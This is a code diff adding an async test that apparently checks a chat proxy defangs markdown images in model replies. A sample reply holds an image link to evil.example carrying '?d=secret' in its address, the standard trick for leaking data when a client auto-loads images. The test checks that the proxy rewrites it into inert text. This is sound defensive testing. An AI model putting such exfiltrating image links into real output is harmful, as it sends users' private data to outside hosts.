@@ -96,6 +96,29 @@ async def test_calls_of_the_clients_tools_go_to_the_client_and_their_results_com
             )
 
 
+async def test_an_image_that_nobody_named_is_text_whether_streamed_or_whole(tmp_path: Path) -> None:
+    """A client loads an image by itself, and what stands in its address goes out."""
+    said = "Look at https://good.example/a please. " + "pasted words " * 200
+    leak = "See ![x](http://evil.example/i.png?d=secret) and [a](https://good.example/a) now."
+    plain = "See ![x] (http[:]//evil[.]example/i.png?d=secret) and [a] (https[:]//good[.]example/a) now."
+    step = PausedStep(text_reply(leak), partial=leak[:40])
+    async with program(tmp_path, ScriptedModel([step, text_reply(leak)])) as stage:
+        stream = await stage.client.chat.completions.create(
+            model="tapebot", messages=talk(said), stream=True
+        )
+        texts: list[str] = []
+        async for chunk in stream:
+            texts += [chunk.choices[0].delta.content or ""]
+            if texts[-1]:
+                step.release.set()
+        assert "".join(texts) == plain
+        assert next(filter(None, texts)) == "See "
+        kept = "[a](https://good.example/a)"
+        answer = await stage.ask(said, plain, "And https://good.example/a once more")
+        assert answer == plain.replace("[a] (https[:]//good[.]example/a)", kept)
+        assert (await stage.said())[1::2] == [plain, answer]
+
+
 async def test_streamed_calls_arrive_whole(tmp_path: Path) -> None:
     model = ScriptedModel([tool_call_reply(("weather", {"city": "Rome"}))])
     async with program(tmp_path, model) as stage:
